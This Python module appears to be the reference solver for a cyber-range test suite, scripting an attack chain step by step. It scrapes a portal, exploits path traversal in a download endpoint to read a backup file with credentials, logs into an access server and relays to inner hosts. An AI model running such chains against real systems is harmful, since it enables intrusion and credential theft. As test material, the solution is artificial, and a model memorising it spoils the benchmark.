"""The reference: climbs a chain step by step, from the subject's place and with its means alone.

    python3 -m leadline.suites.ranges.climb PLAN.json [--without STEP] [--known FOUND.json]

PLAN.json says where the portal is and which weakness each host has; passwords, paths, registers and
numbers are learned on the way, as any subject must. ``--without`` leaves one step out and tries all
others, with what is known then; ``--known`` learns nothing and uses what was found elsewhere. The
last line printed is JSON: ``{"found", "failed"}``.
"""

import argparse
import asyncio
import contextlib
import json
import re
from collections.abc import AsyncIterator, Awaitable, Callable, Mapping, Sequence
from dataclasses import dataclass, field
from importlib import import_module
from pathlib import Path
from urllib.parse import quote

from leadline.suites.ranges import listen
from leadline.suites.ranges.footholds import decoded, escaped
from leadline.suites.ranges.listen import Reader, Writer

STEP_SECONDS_MAX = 15.0
# A step that lacks what an earlier one finds fails by one of these; the climb goes on without it.
FAILURES = (OSError, EOFError, LookupError, ValueError, TimeoutError, AttributeError)


class RefusedError(ValueError):
    """A host answered, and the answer was no."""


@dataclass(slots=True)
class Climb:
    """What is told (*plan*) and what was *found*; a *fixed* climb finds nothing new."""

    plan: Mapping[str, str]
    found: dict[str, str] = field(default_factory=dict)
    fixed: bool = False

    def learn(self, **facts: str) -> None:
        """Keep *facts*, unless this climb goes by what is known already."""
        if not self.fixed:
            self.found |= facts

    async def get(self, place: str, target: str) -> str:
        """The text of a page.

        Raises: RefusedError, if the answer is not 200.
        """
        reader, writer = await _open(place)
        try:
            writer.write(f"GET {target} HTTP/1.1\r\nHost: {place}\r\n\r\n".encode())
            head = await listen.line(reader)
            while await listen.line(reader):
                continue
            text = (await reader.read(-1)).decode()
        finally:
            writer.close()
        if " 200 " not in head:
            raise RefusedError(head)
        return text

    @contextlib.asynccontextmanager
    async def tunnel(self, name: str) -> AsyncIterator[str]:
        """A place of our own that leads to the inner host *name*, as far as we have got.

        The way is opened before anybody uses it, so that one that does not exist is known at once.
        """
        ready = [await self._inner(name)]

        async def carry(reader: Reader, writer: Writer, _: str) -> None:
            far = ready.pop() if ready else await self._inner(name)
            await listen.join((reader, writer), far)

        try:
            async with listen.tcp("127.0.0.1", 0, carry) as port:
                yield f"127.0.0.1:{port}"
        finally:
            for _, writer in ready:
                writer.close()

    async def _inner(self, name: str) -> tuple[Reader, Writer]:
        if "relay" not in self.found:
            return await _open(json.loads(self.found["targets"])[name])
        reader, writer = await _open(self.found["jump"])
        try:
            login, _, relay = (await listen.line(reader)).split(" | ")[1:]
            if "logged_in" in self.found:
                user, password = self.found["user"], self.found["password"]
                await _said(reader, writer, f"{login.split()[0]} {user} {password}")
            await _said(reader, writer, f"{relay.split()[0]} {name}")
        except BaseException:
            writer.close()
            raise
        return reader, writer


Step = Callable[[Climb], Awaitable[None]]


async def _open(place: str) -> tuple[Reader, Writer]:
    host, _, port = place.rpartition(":")
    return await asyncio.open_connection(host, int(port))


async def _said(reader: Reader, writer: Writer, words: str) -> str:
    """What a line is answered with, after its OK.

    Raises: RefusedError.
    """
    writer.write(words.encode() + b"\n")
    answer = await listen.line(reader)
    if not answer.startswith("OK"):
        raise RefusedError(answer)
    return answer.removeprefix("OK").strip()


def named(pattern: str, text: str) -> str:
    """The group of *pattern* in *text*.

    Raises: RefusedError, if it is not there.
    """
    found = re.search(pattern, text)
    if found is None:
        raise RefusedError(f"no {pattern} in what was read")
    return found[1]


async def read_index(climb: Climb) -> None:
    """The portal's first page names its notes."""
    text = await climb.get(climb.plan["portal"], "/")
    climb.learn(notes=json.dumps(re.findall(r'href="(/notes/[^"]+)"', text)))


async def read_note(climb: Climb) -> None:
    """One of the notes says where the backup is and how the access server is reached."""
    for note in json.loads(climb.found["notes"]):
        text = await climb.get(climb.plan["portal"], note)
        if "backup" in text:
            climb.learn(
                backup=named(r"backup ([\w./-]+)", text), jump=named(r"server ([\d.]+:\d+)", text)
            )


async def read_backup(climb: Climb) -> None:
    """The file beside the public folder holds an account."""
    name = escaped(climb.found["backup"], climb.plan["traversal"])
    text = await climb.get(climb.plan["portal"], f"/download?file={quote(name, safe='/%')}")
    password = decoded(named(r"password = (\S+)", text), climb.plan["encoding"])
    climb.learn(user=named(r"user = (\S+)", text), password=password)
    climb.learn(**dict(re.findall(r"(\w+) = (\S+) ; site", text)))


async def log_in(climb: Climb) -> None:
    """The access server takes the account and lists what is behind it."""
    reader, writer = await _open(climb.found["jump"])
    try:
        login, show, _ = (await listen.line(reader)).split(" | ")[1:]
        user, password = climb.found["user"], climb.found["password"]
        await _said(reader, writer, f"{login.split()[0]} {user} {password}")
        rows = await _said(reader, writer, show)
    finally:
        writer.close()
    climb.learn(logged_in="yes", targets=json.dumps(dict(row.split("=") for row in rows.split())))


async def relay(climb: Climb) -> None:
    """The access server opens the way to the first inner host."""
    climb.learn(relay="yes")
    try:
        _, writer = await climb._inner(climb.plan["inner"])  # noqa: SLF001 - a step is part of the climb
    except FAILURES:
        climb.found.pop("relay", None)
        raise
    writer.close()


FOOTHOLDS: tuple[tuple[str, Step], ...] = (
    ("index-read", read_index),
    ("note-read", read_note),
    ("backup-read", read_backup),
    ("logged-in", log_in),
    ("relayed", relay),
)


async def climb_chain(
    sector: str, climb: Climb, without: Sequence[str] = ()
) -> tuple[dict[str, str], dict[str, str]]:
    """What was found and which steps failed (and why), after every step but those in *without*."""
    failed: dict[str, str] = {}
    steps: tuple[tuple[str, Step], ...] = import_module(
        f"leadline.suites.ranges.{sector}.reference"
    ).STEPS
    for name, step in steps:
        if name in without:
            continue
        try:
            async with asyncio.timeout(STEP_SECONDS_MAX):
                await step(climb)
        except FAILURES as error:
            failed[name] = f"{type(error).__name__}: {error}"
    return climb.found, failed


def main(argv: Sequence[str] | None = None) -> None:
    """Climb as the arguments say, and print the outcome."""
    parser = argparse.ArgumentParser()
    parser.add_argument("plan", type=Path)
    parser.add_argument("--without", action="append", default=[])
    parser.add_argument("--known", type=Path)
    given = parser.parse_args(argv)
    plan = json.loads(given.plan.read_text(encoding="utf-8"))
    known = json.loads(given.known.read_text(encoding="utf-8")) if given.known else {}
    climb = Climb(plan, known, fixed=bool(known))
    found, failed = asyncio.run(climb_chain(plan["sector"], climb, given.without))
    print(json.dumps({"found": found, "failed": failed}))  # noqa: T201 - the answer of this program


if __name__ == "__main__":
    main()
